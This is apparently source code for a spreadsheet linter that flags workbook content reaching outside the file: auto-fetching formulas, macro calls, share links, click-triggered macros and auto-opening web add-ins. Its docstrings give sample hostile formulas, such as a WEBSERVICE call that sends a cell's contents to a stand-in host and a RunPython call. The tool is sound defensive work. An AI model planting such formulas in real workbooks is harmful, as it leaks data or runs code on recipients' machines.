"""KAL812-KAL816: what of a workbook reaches outside it, by itself or when somebody clicks."""

from __future__ import annotations

from collections.abc import Iterator

from kalkyl.model import Severity
from kalkyl.rules.catalogue import Case, Hit, Words, file_rule


def _hits(case: Case, *kinds: str) -> Iterator[Hit]:
    return (Hit(problem.place, problem.facts) for problem in case.having(*kinds))


@file_rule(
    Words(
        "KAL812",
        Severity.ERROR,
        sv="Arbetsboken frågar en adress utanför filen så snart den öppnas eller räknas om: "
        "{what}. Då kan uppgifter lämna den. Klistra in värdet i stället.",
        en="The workbook asks an address outside the file as soon as it is opened or computed: "
        "{what}. Data may leave it then. Paste the value instead.",
    )
)
def asks_by_itself(case: Case) -> Iterator[Hit]:
    """Nothing in a workbook asks an address by itself, as it is opened or computed.

    Functions such as WEBSERVICE, IMAGE, STOCKHISTORY, PY, SQL.REQUEST and those that begin with
    CUBE; pictures and other parts that are fetched from elsewhere; connections that reload when
    the workbook is opened. Looked for wherever a formula can stand, as KAL806 does.

    ## Regel
    Inget i arbetsboken frågar en adress av sig självt när den öppnas eller räknas om.

    ## Varför
    En formel som ``=WEBSERVICE("http://exempel.test/?"&B3)`` skickar innehållet i B3 till adressen.
    Det sker hos mottagaren, utan att någon klickar.

    ## Exempel
    ```exempel
    problem: fetches what=”=WEBSERVICE("http://exempel.test/?"&B3)”
    ```

    ## Så rättar du
    Kopiera cellen och klistra in den som värde. Infoga bilder i arbetsboken i stället för att
    länka till dem. Stäng av uppdatering vid öppning under Data › Frågor och anslutningar.

    ## In English
    Such a formula sends what the workbook holds to an address, without anybody clicking. Paste the
    value, embed pictures, and switch off refreshing on open.
    """
    return _hits(case, "fetches")


@file_rule(
    Words(
        "KAL813",
        Severity.ERROR,
        sv="Arbetsboken anropar ett makro eller en tilläggsfunktion: {what}. Klistra in värdet "
        "i stället. Vet du inte varifrån det kommer, öppna inte filen; fråga avsändaren.",
        en="The workbook calls a macro or a function of an add-in: {what}. Paste the value "
        "instead. If you do not know where it is from, do not open the file; ask the sender.",
    )
)
def calls_a_macro(case: Case) -> Iterator[Hit]:
    """No formula calls a function that Excel does not have itself, and no name stands for a macro.

    The add-in's own functions, whose names begin with ``KALKYL_``, are none; nor are functions
    that the workbook defines with LAMBDA. Looked for wherever a formula can stand.

    ## Regel
    Ingen formel anropar en funktion som Excel inte har själv, och inget namn står för ett makro.

    ## Varför
    En sådan formel kör ett makro i något tillägg som mottagaren har, så snart arbetsboken räknas
    om: ``=RunPython("…")`` kan köra vad avsändaren vill.

    ## Exempel
    ```exempel
    problem: calls_macro what=”=RunPython("import os")”
    ```

    ## Så rättar du
    Kopiera cellen och klistra in den som värde. Ta bort namn som står för makron
    (Formler › Namnhanteraren).

    ## In English
    Such a formula runs a macro of whatever add-in the receiver has, as soon as the workbook is
    computed. Paste the value, and delete names that stand for macros.
    """
    return _hits(case, "calls_macro")


@file_rule(
    Words(
        "KAL814",
        Severity.WARNING,
        sv="Arbetsboken har en länk till en fil, en delad mapp eller ett program: {what}. "
        "Klicka inte på den; ta bort den.",
        en="The workbook has a link to a file, a share or a program: {what}. Do not click it; "
        "remove it.",
    )
)
def leads_outside(case: Case) -> Iterator[Hit]:
    """Links lead to cells of the workbook or to web pages, not to files, shares or programs.

    A web address that a formula puts together from cells counts too.

    ## Regel
    Länkar leder till arbetsbokens celler eller till webbsidor, inte till filer, delade mappar eller
    program.

    ## Varför
    En länk till en delad mapp (``file:`` eller två omvända snedstreck) skickar inloggningen dit när
    någon klickar. En adress som ``ms-word:`` eller ``javascript:`` startar ett program.

    ## Exempel
    ```exempel
    problem: leads_outside what=”file://dator/mapp/fil.xlsx”
    ```

    ## Så rättar du
    Högerklicka på cellen och välj Ta bort hyperlänk. Skicka filen bredvid i stället.

    ## In English
    A link to a share sends one's log-in there when clicked; some addresses start programs. Remove
    the link and send the file beside.
    """
    return _hits(case, "leads_outside")


@file_rule(
    Words(
        "KAL815",
        Severity.WARNING,
        sv="Arbetsboken har något som kör ett makro när någon klickar: {what}. Klicka inte på "
        "det; ta bort det.",
        en="The workbook has something that runs a macro when clicked: {what}. Do not click it; "
        "remove it.",
    )
)
def macro_at_a_click(case: Case) -> Iterator[Hit]:
    """No shape, picture, control or button of a workbook runs a macro.

    ## Regel
    Ingen figur, bild, kontroll eller knapp i arbetsboken kör ett makro.

    ## Varför
    Makrot kan finnas i ett tillägg hos den som klickar, så att arbetsboken själv inte behöver ha
    några makron.

    ## Exempel
    ```exempel
    problem: clicked_macro what=”'kalkyl.xlam'!RunPython” (en figur)
    ```

    ## Så rättar du
    Markera figuren eller knappen med högerklick och ta bort den.

    ## In English
    The macro may be in an add-in of the one who clicks. Right-click the shape and remove it.
    """
    return _hits(case, "clicked_macro")


@file_rule(
    Words(
        "KAL816",
        Severity.ERROR,
        sv="Arbetsboken öppnar ett {what} av sig själv. Tilläggets webbsida får läsa "
        "arbetsboken. Ta bort tillägget.",
        en="The workbook opens a {what} by itself. The add-in's web page may read the workbook. "
        "Remove the add-in.",
    )
)
def web_addin(case: Case) -> Iterator[Hit]:
    """A workbook opens no web add-in or task pane by itself.

    One that waits until somebody opens it is KAL808.

    ## Regel
    En arbetsbok öppnar inget webbtillägg och ingen åtgärdsruta av sig själv.

    ## Varför
    Ett webbtillägg är en webbsida hos någon annan, som kan läsa och skicka det som står i
    arbetsboken.

    ## Exempel
    ```exempel
    problem: web_addin what=webbtillägg
    ```

    ## Så rättar du
    Stäng fönstret till höger med krysset, välj Infoga › Mina tillägg och ta bort tillägget, spara.

    ## In English
    A web add-in is somebody's web page that may read and send what the workbook holds. Remove it.
    """
    return _hits(case, "web_addin")
